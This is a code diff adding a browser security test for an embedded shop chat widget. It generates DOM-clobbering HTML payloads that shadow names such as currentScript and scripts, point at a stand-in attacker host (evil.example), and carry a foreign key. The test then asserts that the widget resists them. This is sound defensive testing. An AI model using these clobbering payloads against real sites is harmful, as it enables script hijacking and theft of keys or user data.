@@ -250,3 +250,47 @@ for (const [what, html, headers] of [
     );
   });
 }
+
+// What a review on a shop's page may hold where its filter lets names and addresses through: no script of it, and yet each takes the
+// place of something that scripts ask the document for.
+const clobbering = () => {
+  const src = `http://evil.example/bundle.js?key=${keys.other}`;
+  const named = ['img', 'embed', 'object', 'form', 'iframe'];
+  const names = ['currentScript', 'scripts', 'getElementsByTagName', 'referrer'];
+  const more = [
+    `<a id="HTMLScriptElement" href="${src}">x</a><a id="Document" href="${src}">x</a><a id="Reflect" href="#">x</a>`,
+    `<form name="scripts"><input name="length" value="1"><img name="0" src="${src}"></form>`,
+    `<svg><script data-key="${keys.other}" href="${src}" type="text/plain"></script></svg>`,
+    `<img id="currentScript" name="currentScript" src="${src}" data-key="${keys.other}" data-person="${keys.other}">`,
+  ];
+  return names
+    .flatMap((name) => named.map((tag) => `<${tag} name="${name}" src="${src}" data-key="${keys.other}"></${tag}>`))
+    .concat(more)
+    .join('');
+};
+
+test('what a stranger wrote into the page names neither the server nor the business', { skip }, async (t) => {
+  const ways = [
+    line(),
+    line('type="module"'),
+    keyed('type="module"'),
+    keyed('async'),
+    `<script>addEventListener('load', () => setTimeout(() => { ${injected()} }, 50));</script>`,
+  ];
+  const { page, errors, asked } = await visit(t, clobbering() + ways.join('') + clobbering());
+  const elsewhere: string[] = [];
+  page.on('request', (request) => elsewhere.push(request.url()));
+  await buttons(page).first().waitFor();
+  await launcher(page).click();
+  await page.getByRole('dialog', { name: 'Ronda Bicycles' }).waitFor();
+  assert.equal(await buttons(page).count(), 1);
+  assert.ok(!asked.some((path) => path.includes(keys.other)), asked.join());
+  assert.deepEqual(
+    elsewhere.filter((url) => /evil.*chat-|evil.*\/v1\//.test(url)),
+    [],
+  );
+  assert.deepEqual(
+    errors.filter((error) => !/ERR_|Failed to load|404/.test(error)),
+    [],
+  );
+});
